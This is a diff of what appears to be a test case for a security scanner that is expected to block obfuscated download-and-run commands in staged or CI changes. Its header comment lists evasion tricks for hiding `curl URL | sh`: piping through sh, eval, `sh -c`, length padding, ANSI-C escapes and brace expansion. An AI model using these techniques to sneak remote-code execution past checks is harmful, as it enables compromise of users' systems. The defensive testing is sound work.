@@ -1,10 +1,7 @@
 # attack: the download-and-run is never a command of the script but text a shell is given: `echo 'curl URL | sh' | sh`, printf, a here-string, a variable eval'd or run by `sh -c` (padded past any length limit), a name spelled in ANSI-C escapes ($'\x63url') or brace expansion ({curl,URL}), a command behind `$SUDO`
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 pad=$(printf ': ;%.0s' $(seq 3000))
 while IFS= read -r line; do
   write scripts/install.sh '#!/bin/bash' "${line//PAD/$pad}"
